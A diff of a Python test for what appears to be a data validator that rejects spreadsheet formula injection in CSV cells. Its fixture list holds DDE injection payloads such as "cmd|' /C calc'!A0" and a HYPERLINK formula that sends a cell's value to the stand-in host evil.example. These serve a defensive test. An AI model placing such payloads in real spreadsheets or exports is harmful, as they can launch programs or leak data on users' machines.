@@ -133,14 +133,15 @@ def test_every_cell_the_integer_pattern_accepts_is_typed_as_its_number(cell):
     assert "type-error" not in {p.type for p in report.problems}
 
 
-FORMULAS = ["-2+3+cmd|' /C calc'!A0", '-0+HYPERLINK("http://evil.example/?"&A1,"x")', "-", "- a dash", "-1e3",
-            "=1", "+x", "@SUM(A1)", "\tx", "\rx"]
-NOT_FORMULAS = ["-3", "-0.5", "plain", "a-b", "3-2", " -1"]
+FORMULAS = ["-2+3+cmd|' /C calc'!A0", '-0+HYPERLINK("http://evil.example/?"&A1,"x")', "-1+cmd|' /C calc'!A0",
+            "-", "- a dash", "-x", "=1", "+x", "@SUM(A1)", "\tx", "\rx"]
+NOT_FORMULAS = ["-3", "-0.5", "-.5", "-5.", "-1e-1", "-1uring his visit", "-2017 he said, and", "plain", "a-b", " -1"]
 
 
-def test_a_cell_starting_with_a_minus_is_a_formula_unless_it_is_a_negative_number():
-    # The classic DDE payload starts with "-" and a digit: only a cell that is a negative number
-    # (which a spreadsheet reads as that number) may start with "-".
+def test_a_cell_starting_with_a_minus_is_a_formula_when_it_can_call_something():
+    # The classic DDE payload starts with "-" and a digit. A cell that starts so is refused when it
+    # holds "(" or "|" (a function call, another program); a negative number and the article's own
+    # words after a quote ("-2017 he said", which a span's quote_suffix must hold) are not.
     cells = FORMULAS + NOT_FORMULAS
     table = pa.table({"notes": pa.array(cells, pa.string())})
     raw = structure.RawTable("data/actors.csv", models.Actor, table, None, ["notes"])
